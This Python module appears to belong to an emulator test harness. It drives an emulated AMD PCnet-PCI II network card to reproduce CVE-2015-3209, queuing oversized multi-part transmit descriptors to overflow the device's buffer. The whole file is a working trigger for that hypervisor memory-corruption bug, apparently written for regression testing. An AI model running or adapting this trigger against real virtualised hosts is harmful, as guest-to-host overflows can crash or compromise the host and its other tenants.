# SPDX-License-Identifier: GPL-2.0
"""AMD's PCnet-PCI II network card"""

import struct

DEVICES = ("pcnet,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# The first four bytes of its address
PROBE = 0, 0x0

DATA, ADDRESS, BUS_DATA = 0x10, 0x12, 0x16
STYLE_32 = 2
INIT, START, STOP, SEND = 1, 2, 4, 8
OWN, FIRST = 0x8000, 0x0200
RING = 16
# A descriptor says how much less than 4096 bytes it has.
ALL = 0xf000


def cve_2015_3209(guest):
    """A packet is in several parts, of 4096 bytes each."""
    bar = guest.device.bars[0]
    data = guest.memory(b"\xff" * 4096)
    parts = [struct.pack("<IHHII", data, ALL, OWN | (FIRST if i == 0 else 0), 0, 0)
             for i in range(RING)]
    ring = guest.memory(b"".join(parts))
    block = guest.memory(struct.pack("<HBB6xxx8xII", 0, 0, 4 << 4, guest.alloc(16), ring))

    def csr(number, value, port=DATA):
        bar.write(ADDRESS, number, 2)
        bar.write(port, value, 2)

    csr(20, STYLE_32, BUS_DATA)
    csr(0, STOP)
    csr(1, block & 0xffff)
    csr(2, block >> 16)
    csr(0, INIT)
    csr(0, START | SEND)
